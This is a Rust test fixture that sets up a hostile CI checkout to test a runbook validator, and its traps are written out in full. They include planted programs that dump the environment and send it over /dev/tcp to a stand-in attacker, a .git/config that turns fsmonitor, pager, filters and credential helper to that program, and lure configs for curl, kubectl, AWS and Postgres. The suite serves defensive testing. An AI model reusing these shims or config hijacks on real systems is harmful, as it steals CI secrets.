//! The scene: a bare repository whose base lists one host, a branch that an attacker pushed, and a
//! checkout of it in which an earlier step of the job left traps.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use tempfile::TempDir;

use crate::alone;
use crate::attacker::Attacker;
use crate::change;
use crate::lab::{Answer, RUNBOOK, Seen, Server};

/// What must not get out, and where it lies in the environment of the job: the token that the
/// runbooks ask for, and those that other steps and tools need.
pub const SECRETS: &[(&str, &str)] = &[
    ("API_TOKEN", "canary-7f3a91d0c55e-token"),
    ("GH_TOKEN", "canary-41b0e6d2aa93-github"),
    ("HEROKU_API_KEY", "canary-95c2d7f10e84-heroku"),
    ("AWS_SECRET_ACCESS_KEY", "canary-0ad3b86e27f5-aws"),
    ("INFISICAL_TOKEN", "canary-c81f5a940be6-vault"),
];

/// Programs that the branch brings.
const PLANTED: &[&str] =
    &["curl", "git", "bash", "sh", "jq", "gh", "env", "cat", "printf", "true", "runbook", "sleep"];

/// Programs that a job has. Where this machine lacks one, another stands for it that takes
/// everything it is given to the attacker as soon as it is started.
const TOOLS: &[&str] = &[
    "gh",
    "heroku",
    "infisical",
    "psql",
    "redis-cli",
    "kubectl",
    "aws",
    "wget",
    "nc",
    "ping",
    "dig",
    "openssl",
    "ssh",
    "docker",
    "vault",
    "mysql",
    "sudo",
    "watch",
    "python3",
];

/// Settings that the base has.
fn settings(listed: &str, port: &str) -> String {
    format!("[read-only]\nhosts = [\"{listed}\", \"api.listed.test:{port}\"]\n")
}

pub struct Scene {
    folder: TempDir,
    pub server: Server,
    pub attacker: Attacker,
}

impl Scene {
    /// The bare repository with its base, cloned as CI does it.
    pub fn new() -> Self {
        let folder = tempfile::Builder::new().prefix("hostile-").tempdir().expect("a folder");
        for name in ["home", "tmp", "tools", "marks", "team"] {
            fs::create_dir(folder.path().join(name)).expect("a folder");
        }
        let server = Server::start(|request| match request.path.as_str() {
            "/evil" => Answer::text(request.query["is"].as_str()),
            "/noise" => Answer::text(change::SAID),
            "/away" => Answer::moved(&request.query["to"]),
            "/token" => Answer::text(request.credential()),
            _ => Answer::text("ok\n"),
        });
        let port = server.host().rsplit(':').next().expect("a port").parse().expect("a number");
        let attacker = Attacker::beside(port);
        let scene = Self { folder, server, attacker };
        scene.resolver();
        scene.tools();
        scene.base();
        scene
    }

    /// The attacker's address with the port of the trusted server.
    pub fn evil(&self) -> String {
        format!("{}:{}", self.attacker.address(), self.port())
    }

    fn port(&self) -> &str {
        self.server.host().rsplit(':').next().expect("a port")
    }

    /// A text in which the hosts are filled in.
    pub fn filled(&self, text: &str) -> String {
        let address = self.attacker.address();
        let last = address.octets()[3];
        text.replace("LISTED", self.server.host())
            .replace("EVILHOST", &address.to_string())
            .replace("EVILNUMBER", &address.to_bits().to_string())
            .replace("EVILSHORT", &format!("127.{last}"))
            .replace("EVILLAST", &last.to_string())
            .replace("EVIL", &self.evil())
            .replace("P0RT", self.port())
    }

    pub fn at(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    /// A path in CI's checkout.
    pub fn work(&self, name: &str) -> PathBuf {
        self.at("work").join(name)
    }

    /// Writes a file of CI's checkout.
    pub fn write(&self, name: &str, text: &str) {
        let path = self.work(name);
        fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
        fs::write(path, self.filled(text)).expect("a file");
    }

    pub fn read(&self, name: &str) -> String {
        fs::read_to_string(self.work(name)).expect("a file")
    }

    /// Names are asked of the attacker, by everything that runs in a mount namespace of its own.
    fn resolver(&self) {
        let text =
            format!("nameserver {}\noptions timeout:1 attempts:1\n", self.attacker.address());
        fs::write(self.at("resolv.conf"), text).expect("a file");
        fs::write(self.at("nsswitch.conf"), "hosts: files dns\n").expect("a file");
    }

    fn tools(&self) {
        for name in TOOLS {
            if !is_there(name) {
                self.program(&self.at("tools"), name);
            }
        }
    }

    /// A program that carries everything to the attacker, and leaves a mark.
    fn program(&self, folder: &Path, name: &str) {
        let mark = self.at("marks").join(name);
        let script = format!(
            "#!/bin/bash\n/usr/bin/env > {} 2>&1\nexec 3<>/dev/tcp/{}/{} && printf '%s\\n' \"$0 $*\" >&3\n/usr/bin/env >&3\n",
            mark.display(),
            self.attacker.address(),
            self.port(),
        );
        fs::create_dir_all(folder).expect("a folder");
        fs::write(folder.join(name), script).expect("a program");
        let mode = fs::Permissions::from_mode(0o755);
        fs::set_permissions(folder.join(name), mode).expect("executable");
    }

    fn base(&self) {
        let git = |words: &[&str]| self.git("team", words);
        self.git("", &["init", "--quiet", "--bare", "--initial-branch=main", "origin.git"]);
        git(&["init", "--quiet", "--initial-branch=main"]);
        git(&["remote", "add", "origin", "../origin.git"]);
        let honest = "# Look\n\n**Last validated:** 2025-01-02\n\n```bash\ncurl -sS http://LISTED/health\n# Expect: \"ok\"\n```\n";
        fs::create_dir(self.at("team/docs")).expect("a folder");
        fs::write(self.at("team/docs/look.md"), self.filled(honest)).expect("a file");
        fs::write(self.at("team/runbook.toml"), settings(self.server.host(), self.port()))
            .expect("a file");
        self.push("team", "main");
        self.git("", &["clone", "--quiet", "origin.git", "work"]);
        self.git("work", &["checkout", "--quiet", "-b", "change"]);
    }

    /// Commits everything of a clone and pushes it.
    pub fn push(&self, clone: &str, branch: &str) {
        self.git(clone, &["add", "--all", "--force"]);
        self.git(clone, &["commit", "--quiet", "--allow-empty", "-m", "Change"]);
        self.git(clone, &["push", "--quiet", "origin", &format!("HEAD:{branch}")]);
    }

    /// git, as somebody whom nobody attacks.
    pub fn git(&self, folder: &str, words: &[&str]) {
        let identity = ["-c", "user.name=A", "-c", "user.email=a@example.com"];
        let mut command = Command::new("git");
        command.args(identity).args(["-c", "core.fsmonitor=false"]).args(words);
        command.current_dir(self.at(folder)).env("GIT_CONFIG_GLOBAL", "/dev/null");
        let output = command.output().expect("git starts");
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    }

    /// The pull request, pushed and checked out, with everything planted.
    pub fn change(&self) {
        let document = change::DOCUMENT.replace("BIDI", "\u{202e}").replace("ZERO", "\u{200b}");
        self.write("docs/look.md", &document);
        self.write("runbook.toml", change::SETTINGS);
        self.write("docs/noise.md", change::NOISE);
        self.write("docs/plain.md", &change::noise_without_secrets());
        for name in ["%0A::error::percent.md", "new\n::error::line.md"] {
            self.write(
                &format!("docs/{name}"),
                &alone("curl -sS http://LISTED/noise\n# Expect: 5"),
            );
        }
        self.lures();
        self.push("work", "change");
        self.plant();
    }

    /// Programs of these names in the checkout's own `bin`, which is first on PATH.
    pub fn planted(&self, names: &[&str]) {
        for name in names {
            self.program(&self.work("bin"), name);
        }
    }

    /// A program of the machine.
    pub fn trusted(&self, name: &str, script: &str) {
        let path = self.at("tools").join(name);
        fs::write(&path, format!("#!/bin/sh\n{script}\n")).expect("a program");
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).expect("executable");
    }

    /// A cargo and a rustc in a folder of the checkout.
    pub fn toolchain(&self, folder: &str) {
        self.program(&self.work(folder), "cargo");
        self.program(&self.work(folder), "rustc");
    }

    /// A bare repository as a folder of the checkout, as anybody can commit one: its configuration
    /// names a work tree, whose attributes name a filter and a diff driver.
    pub fn bare(&self, folder: &str) {
        self.planted(&["ev"]);
        let evil = self.work("bin/ev").display().to_string();
        self.git("work", &["init", "--quiet", "--bare", folder]);
        self.write("wt/a.bin", "a\n");
        self.write("wt/.gitattributes", "a.bin filter=ev diff=ev\n");
        let tree = self.work("wt").display().to_string();
        let git = self.work(folder).display().to_string();
        let there = [format!("--git-dir={git}"), format!("--work-tree={tree}")];
        let there: Vec<&str> = there.iter().map(String::as_str).collect();
        self.git("work/wt", &[&there[..], &["add", "a.bin"]].concat());
        self.write("wt/a.bin", "b\n");
        let config = self.work(folder).join("config");
        let text = fs::read_to_string(&config).expect("a configuration").replace("bare = true", "");
        let own = format!(
            "[core]\n bare = false\n worktree = {tree}\n[filter \"ev\"]\n clean = {evil}\n[diff \"ev\"]\n command = {evil}\n[diff]\n external = {evil}\n"
        );
        fs::write(&config, text + &own).expect("a configuration");
    }

    /// Takes the marks of planted programs away, and what the attacker heard.
    pub fn forget(&self) {
        for name in self.marks() {
            fs::remove_file(self.at("marks").join(name)).expect("a file");
        }
        let _ = self.attacker.take();
    }

    /// Another repository, whoever's it is, as a submodule of the checkout.
    pub fn submodule(&self, path: &str) {
        self.git("", &["init", "--quiet", "--bare", "--initial-branch=main", "theirs.git"]);
        self.git("", &["clone", "--quiet", "theirs.git", "seed"]);
        self.push("seed", "main");
        let local = ["-c", "protocol.file.allow=always"];
        let theirs = self.at("theirs.git").display().to_string();
        self.git("work", &[&local[..], &["submodule", "--quiet", "add", &theirs, path]].concat());
    }

    /// Every file of the checkout, git's own among them.
    pub fn checkout(&self) -> BTreeMap<PathBuf, Vec<u8>> {
        let root = self.work("");
        self.files().into_iter().filter(|(path, _)| path.starts_with(&root)).collect()
    }

    /// What an earlier step of the job, or the change itself, leaves in the checkout.
    pub fn plant(&self) {
        self.planted(PLANTED);
        let evil = self.work("bin/curl").display().to_string();
        let config = self.work(".git/config");
        let mut text = fs::read_to_string(&config).expect("a configuration");
        text += &format!(
            "[core]\n fsmonitor = {evil}\n pager = {evil}\n sshCommand = {evil}\n hooksPath = {bin}\n editor = {evil}\n gitProxy = {evil}\n attributesFile = {bin}/attributes\n[diff]\n external = {evil}\n[diff \"x\"]\n textconv = {evil}\n command = {evil}\n[filter \"x\"]\n clean = {evil}\n smudge = {evil}\n process = {evil}\n required = true\n[alias]\n st = !{evil}\n[credential]\n helper = !{evil}\n[gpg]\n program = {evil}\n[log]\n showSignature = true\n[remote \"evil\"]\n url = http://{host}/x\n[url \"http://{host}/\"]\n insteadOf = ../\n[http]\n proxy = http://{host}\n[uploadpack]\n packObjectsHook = {evil}\n[pager]\n log = {evil}\n diff = {evil}\n status = {evil}\n",
            bin = self.work("bin").display(),
            host = self.evil(),
        );
        fs::write(&config, text).expect("a configuration");
        fs::write(self.work("bin/attributes"), "* diff=x filter=x\n").expect("a file");
        self.planted(&["post-index-change", "reference-transaction", "pre-auto-gc"]);
    }

    /// Files beside the runbooks that lead tools astray.
    pub fn lures(&self) {
        let url = "http://EVIL/lured";
        let kubernetes = format!(
            "apiVersion: v1\nkind: Config\ncurrent-context: e\nclusters: [{{name: e, cluster: {{server: '{url}'}}}}]\ncontexts: [{{name: e, context: {{cluster: e, user: e}}}}]\nusers: [{{name: e, user: {{token: x}}}}]\n"
        );
        let curl = format!("url = {url}\n");
        let evil = format!("curl -sS {url}\n");
        let (aws, pg) =
            ("[default]\nendpoint_url = http://EVIL\n", "[evil]\nhost=EVILHOST\nport=P0RT\n");
        let pages = [("curlrc", &*curl), (".curlrc", &curl), ("evil.sh", &evil), ("aws", aws)];
        let more = [("pg", pg), ("urls", url), ("kubeconfig", &kubernetes)];
        for (name, text) in pages.into_iter().chain(more) {
            self.write(&format!("docs/{name}"), text);
        }
    }

    /// The environment of the job.
    fn environment(&self) -> Vec<(String, String)> {
        let at = |name: &str| self.at(name).display().to_string();
        let path = std::env::var("PATH").expect("a PATH");
        let planted = self.work("bin").display().to_string();
        let path = format!("./bin:{planted}::{}:{path}", at("tools"));
        let own = [
            ("HOME", at("home")),
            ("TMPDIR", at("tmp")),
            ("PATH", path),
            ("LC_ALL", "C.UTF-8".to_owned()),
            ("GIT_CONFIG_NOSYSTEM", "1".to_owned()),
            ("CI", "true".to_owned()),
            ("GITHUB_ACTIONS", "true".to_owned()),
            ("GITHUB_STEP_SUMMARY", at("summary.md")),
            ("GITHUB_ENV", at("github.env")),
            ("GITHUB_OUTPUT", at("github.output")),
        ];
        let own = own.map(|(name, value)| (name.to_owned(), value)).into_iter();
        let secrets = SECRETS.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned()));
        own.chain(secrets).collect()
    }

    /// A command as [`Scene::command`] makes it, but without the planted programs: what somebody
    /// gets who is not attacked.
    pub fn plainly(&self, block: &str) -> Command {
        let path = std::env::var("PATH").expect("a PATH");
        let set = format!("PATH={}:{path}\n", self.at("tools").display());
        self.command("/usr/bin/timeout", &["3", "/bin/bash", "-c", &(set + &self.filled(block))])
    }

    /// A command in the checkout and in the job's environment, with the attacker for a name server
    /// where this process may mount.
    pub fn command(&self, program: &str, words: &[&str]) -> Command {
        let mut command = if is_root() {
            let mut command = Command::new("unshare");
            let mount = "mount --bind \"$1\" /etc/resolv.conf && mount --bind \"$2\" /etc/nsswitch.conf && shift 2 && exec /usr/bin/env -i \"$@\"";
            command.args(["--mount", "/bin/sh", "-c", mount, "sh"]);
            command.args([self.at("resolv.conf"), self.at("nsswitch.conf")]);
            command.args(self.environment().iter().map(|(name, value)| format!("{name}={value}")));
            command.arg(program);
            command
        } else {
            let mut command = Command::new(program);
            command.env_clear().envs(self.environment());
            command
        };
        command.args(words).current_dir(self.work("")).stdin(Stdio::null());
        command
    }

    /// Validates in CI, with the settings of the base.
    pub fn validate(&self, words: &[&str]) -> Seen {
        self.runbook(&[&["validate", "--config-ref", "origin/main"], words].concat())
    }

    /// The program under test with these words.
    pub fn runbook(&self, words: &[&str]) -> Seen {
        Seen::of(&self.command(RUNBOOK, words).output().expect("it starts"))
    }

    /// What planted programs were started, by their names.
    pub fn marks(&self) -> Vec<String> {
        let marks = fs::read_dir(self.at("marks")).expect("a folder").flatten();
        marks.map(|mark| mark.file_name().to_string_lossy().into_owned()).collect()
    }

    /// Every file of the scene, with what is in it.
    pub fn files(&self) -> Vec<(PathBuf, Vec<u8>)> {
        let mut files = Vec::new();
        let mut folders = vec![self.folder.path().to_path_buf()];
        while let Some(folder) = folders.pop() {
            for entry in fs::read_dir(folder).expect("a folder").flatten() {
                match entry.file_type() {
                    Ok(kind) if kind.is_dir() => folders.push(entry.path()),
                    Ok(kind) if kind.is_file() => {
                        files.push((entry.path(), fs::read(entry.path()).expect("a file")));
                    }
                    _ => {}
                }
            }
        }
        files
    }
}

pub fn is_root() -> bool {
    rustix::process::geteuid().is_root()
}

fn is_there(name: &str) -> bool {
    let path = std::env::var_os("PATH").unwrap_or_default();
    // A shim that looks for the real program is none.
    std::env::split_paths(&path)
        .any(|folder| folder.join(name).is_file() && !folder.ends_with("shims"))
}
